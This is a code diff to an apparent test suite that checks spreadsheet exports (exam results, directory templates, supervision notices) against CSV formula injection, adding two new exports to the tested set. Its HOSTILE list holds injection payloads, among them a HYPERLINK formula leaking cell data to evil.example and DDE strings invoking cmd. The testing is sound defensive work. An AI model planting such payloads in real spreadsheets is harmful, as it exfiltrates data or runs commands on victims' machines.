@@ -11,6 +11,8 @@ import type { EnterpriseArchive, PersonArchive } from '../../src/lib/server/stud
 import { streamXlsx } from '../../src/lib/server/coverage/xlsx-stream.ts';
 import { GAP_COLUMNS, gapCells } from '../../src/lib/server/coverage/exports.ts';
 import type { GapRow } from '../../src/lib/server/coverage/coverage.query.ts';
+import { buildDirectoryTemplateXlsx } from '../../src/lib/server/orgs/directory-excel.ts';
+import { buildNoticeXlsx } from '../../src/lib/server/supervision/notice-xlsx.ts';
 
 // OWASP CSV injection: text beginning with = + - @ tab or CR must not reach a spreadsheet as is.
 const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
@@ -109,6 +111,32 @@ const EXPORTS: Record<string, { file: string; build: () => Promise<Buffer> }> = 
 	},
 	'exam results': { file: 'src/lib/server/exams/results.query.ts', build: () => buildResultsXlsx({ name: h(0), opensAt: new Date(0), closesAt: new Date(0) }, HOSTILE.map((_, i) => resultRow(i)), new Date(0)) },
 	'training archive': { file: 'src/lib/server/study/archive-xlsx.ts', build: () => buildArchiveXlsx(archive().summary, archive().details, { generatedAt: new Date(0) }) },
+	'enterprise directory template (regions and industries from the database)': {
+		file: 'src/lib/server/orgs/directory-excel.ts',
+		build: () =>
+			buildDirectoryTemplateXlsx(
+				HOSTILE.map((_, i) => ({ code: h(i), name: h(i + 1), parentName: h(i + 2) })),
+				HOSTILE.map((_, i) => ({ code: h(i), name: h(i + 1), highRisk: i % 2 === 0 }))
+			)
+	},
+	'督办 notice follow-up': {
+		file: 'src/lib/server/supervision/notice-xlsx.ts',
+		build: () =>
+			buildNoticeXlsx(
+				{ id: 1, regulator_org_id: 1, regulator_name: h(0), region_code: '500112', region_name: h(1), target_id: 1, target_title: h(2), goal_percent: 100, title: h(3), body: h(4), deadline: '2026-12-31', created_by: 1, created_by_name: h(5), created_at: new Date(0) },
+				HOSTILE.map((_, i) => ({
+					orgId: i,
+					orgName: h(i),
+					atSending: { required: 2, covered: 1, byRole: [{ role: h(i + 1), required: 2, covered: 1 }] },
+					now: { required: 2, covered: 2, byRole: [{ role: h(i + 2), required: 2, covered: 2 }] },
+					state: 'closed' as const,
+					readAt: null,
+					acknowledgedAt: new Date(0),
+					acknowledgedBy: h(i + 3),
+					ackNote: h(i + 4)
+				}))
+			)
+	},
 	'coverage tables (streamed)': {
 		file: 'src/lib/server/coverage/xlsx-stream.ts',
 		build: () =>
